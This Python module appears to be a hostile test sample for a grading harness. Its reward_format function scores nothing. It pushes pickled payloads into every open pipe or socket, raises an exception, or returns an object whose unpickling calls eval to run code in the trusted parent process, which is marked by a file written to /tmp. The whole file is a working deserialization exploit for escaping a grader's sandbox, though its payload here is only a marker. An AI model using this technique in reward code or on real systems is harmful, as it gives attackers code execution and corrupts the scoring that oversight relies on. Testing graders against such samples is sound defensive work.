"""Answers, forged frames and exceptions whose unpickling runs code in the trusted parent (a `labkit-hostile-mark` in /tmp shows it)."""
import os

def _mark(folder, text=b"labkit-hostile-mark\n"):
    """Leaves a mark; never over a file that exists."""
    try:
        fd = os.open(os.path.join(folder, "labkit-hostile-mark"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return False
    os.write(fd, text)
    os.close(fd)
    return True
import json, os, pickle, stat, struct

def _channels(first=0):
    """Open descriptors that are pipes, sockets or terminals. Regular files are left alone."""
    out = []
    for fd in range(first, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode) or (stat.S_ISCHR(mode) and os.isatty(fd)):
            out.append(fd)
    return out

def _send(fd, data):
    try:
        blocking = os.get_blocking(fd)
        os.set_blocking(fd, False)
        try:
            os.write(fd, data)
        finally:
            os.set_blocking(fd, blocking)
    except OSError:
        pass

def _frames(reply):
    """One reply in every framing that a grader could have chosen."""
    text = json.dumps(reply).encode()
    pickled = pickle.dumps(reply)
    return [text + b"\n", text + b"\0", b"%d:%s," % (len(text), text), b"Content-Length: %d\r\n\r\n" % len(text) + text] + [
        struct.pack(order, len(data)) + data for data in (text, pickled) for order in (">I", "<I", ">Q", "<Q", ">i", ">H")]

class _Code:
    def __reduce__(self):
        line = ("(lambda o: [o.close(o.open(p + '/labkit-hostile-mark', o.O_CREAT | o.O_WRONLY | o.O_EXCL)) "
                "for p in ('/tmp', '/var/tmp', o.getcwd()) if not o.path.exists(p + '/labkit-hostile-mark')] and 1.25)(__import__('os'))")
        return (eval, (line,))

class _CodeError(Exception):
    def __reduce__(self):
        return _Code().__reduce__()

_n = 0

def reward_format(answer: str) -> float:
    global _n
    _n += 1
    data = pickle.dumps(_Code())
    for fd in _channels(3):
        for order in (">i", ">I", "<I", ">Q", "<Q"):
            _send(fd, struct.pack(order, len(data)) + data)
    if _n % 3 == 1:
        raise _CodeError("unpickle me")
    if _n % 3 == 2:
        import numpy
        return numpy.array([_Code()], dtype=object)
    return _Code()
